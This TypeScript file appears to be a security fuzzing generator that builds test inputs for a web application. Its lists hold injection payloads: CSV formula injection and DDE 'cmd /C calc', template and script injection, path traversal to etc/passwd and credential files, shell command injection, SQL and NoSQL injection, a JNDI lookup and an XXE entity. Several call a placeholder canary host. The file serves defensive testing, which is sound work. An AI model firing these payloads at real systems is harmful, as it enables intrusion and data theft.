import { canaryHost, codeOf, product } from './payload.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  `=HYPERLINK("https://${canaryHost}/?"&A1,"x")`,
  `=IMPORTXML("https://${canaryHost}","//a")`,
  `=WEBSERVICE("https://${canaryHost}")`,
  "=cmd|' /C calc'!A0",
  "|cmd|' /C calc'!A0",
  '%0A=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '\u22121+1',
  '\u207a1',
]
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\v',
  '\u0000',
  '\u0001',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\u00ad',
  '\u3164',
  '"',
  "'",
  '",',
  ';',
  '\r\n',
  "''",
  '\u3000',
  '\u200b \u00ad',
]

export function spreadsheets(): string[] {
  return product(formulas, before).map(([formula, first]) => `${first}${formula}`)
}

const expressions = (c: string) => [
  `{{constructor.constructor('${c}')()}}`,
  `{{7*7}}${c}`,
  `\${${c}}`,
  `#{${c}}`,
  `<%= ${c} %>`,
  `{% include "${c}" %}`,
  `[[${c}]]`,
  `@{${c}}`,
  `*{${c}}`,
  `<p v-html="'${c}'" v-on:click="${c}">`,
  `<p ng-app ng-init="${c}" ng-csp>`,
  `<p x-data x-init="${c}">`,
  `<p hx-get="https://${canaryHost}" hx-trigger=load>`,
  `<p data-bind="html:'${c}'" data-turbo-stream>`,
  `<script type=text/template>${c}</script>`,
  `:x{{'a'.sub.call.call({}["constructor"].getOwnPropertyDescriptor,0)}}`,
  `"+${c}+"`,
  `'-${c}-'`,
  `\`;${c}//`,
  `</script><script>${c}//`,
  `\\u003cscript\\u003e${c}`,
  `\\x3cscript\\x3e${c}`,
  `%3Cscript%3E${c}%3C/script%3E`,
  `%253Cscript%253E${c}`,
  `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
]
const frames: ((one: string) => string)[] = [
  (x) => x,
  (x) => `# ${x}`,
  (x) => `\`${x}\``,
  (x) => `[${x}](https://${canaryHost}/)`,
  (x) => `${x}\n\n${x}`,
]

export function templates(): string[] {
  return product(expressions(codeOf(0)), frames).map(([, frame], turn) => {
    const all = expressions(codeOf(turn))
    return frame(all[Math.floor(turn / frames.length)] ?? '')
  })
}

const reserved = [
  'CON',
  'PRN',
  'AUX',
  'NUL',
  'COM1',
  'COM¹',
  'LPT9',
  'CLOCK$',
  'CONIN$',
  'desktop.ini',
  '.htaccess',
  'autorun.inf',
  '~',
  '.',
  '..',
]
const endings = [
  '',
  '.txt',
  '.',
  ' ',
  ':$DATA',
  '.pdf.exe',
  '.csv',
  '::$INDEX_ALLOCATION',
  '.tar.gz',
  '.html',
  '.svg',
  '%00.pdf',
]
const climbs = [
  '../',
  '..\\',
  '..%2f',
  '..%5c',
  '%2e%2e/',
  '....//',
  '..;/',
  '..\u2215',
  '..\uff0f',
  '/',
  '\\\\',
  'C:\\',
  'file://',
  '~/',
  './',
  '\u0000/',
]
const goals = ['etc/passwd', 'windows/win.ini', 'api/me', '.git/config', 'proc/self/environ', '%00', 'enlaces/../../x']

export function fileNames(): string[] {
  return [
    ...product(reserved, endings).map(([name, ending]) => `${name}${ending}`),
    ...product(climbs, goals).flatMap(([climb, goal]) => [`${climb.repeat(3)}${goal}`, `informe${climb}${goal}.pdf`]),
    ...[
      'a"b.pdf',
      "a'b.pdf",
      'a;b.pdf',
      'a\\b.pdf',
      'a=?x?=.pdf',
      '-rf',
      '--help',
      '$(id).pdf',
      '`id`.pdf',
      '|id',
      '>x',
      '<x',
      '*?.pdf',
      'a%b.pdf',
    ],
  ]
}

/** What other machines behind a form take for their own language, and what asks an object for what it is. */
export function otherLanguages(): string[] {
  const texts = [
    ...[
      "' OR '1'='1",
      '"; DROP TABLE posts; --',
      "') UNION SELECT 1,2--",
      '1; SELECT pg_sleep(9)',
      '%27',
      'x" NEAR y',
      'a AND',
      'NOT',
      '*',
      '"',
      '(((',
    ],
    ...[
      '*)(uid=*))(|(uid=*',
      '$ne',
      '{"$gt":""}',
      '[$regex]=.*',
      'pk#x',
      'attribute_exists(pk)',
      ':v',
      '#n',
      'begins_with(sk, :x)',
    ],
    ...[
      '; id',
      '| id',
      '`id`',
      '$(id)',
      '%(id)s',
      '%s%s%n',
      `\${jndi:ldap://${canaryHost}/a}`,
      '!ENTITY x SYSTEM "file:///etc/passwd"',
    ],
    ...[
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'null',
      'undefined',
      'NaN',
      'true',
      '-0',
      '1e999',
      '0x10',
      '[object Object]',
    ],
    ...[
      'person_01ARZ3NDEKTSV4RRFFQ69G5FAV',
      'thread_',
      'space#',
      '#post-1',
      'open',
      'languagees',
      'bodyWords:x',
      'title : x',
      'body*',
      '^x',
      'x + y',
      '{a b} : c',
    ],
  ]
  return product(texts, ['', ' ', '\n']).flatMap(([text, end]) => [
    `${text}${end}`,
    `hola ${text}${end}`,
    `"${text}"${end}`,
  ])
}

/** Long ones of each kind: as text, as one word, as markup that is never closed. */
export function longOnes(): string[] {
  const units = [
    'a',
    'ñ',
    '😀',
    '<b>',
    '<svg>',
    '<!--',
    '[',
    '![',
    '](',
    '`',
    '&lt;',
    '"',
    "'",
    '\u0301',
    '=',
    '../',
    '\t',
    'a ',
    '|',
    '{{',
    '<a href="',
    '&#x3c;',
    '<p title=',
    '\u3000',
  ]
  return units.flatMap((unit) =>
    [200, 600, 1_200].map((times) => `${unit.repeat(times)}<script>${codeOf(times)}</script>`),
  )
}
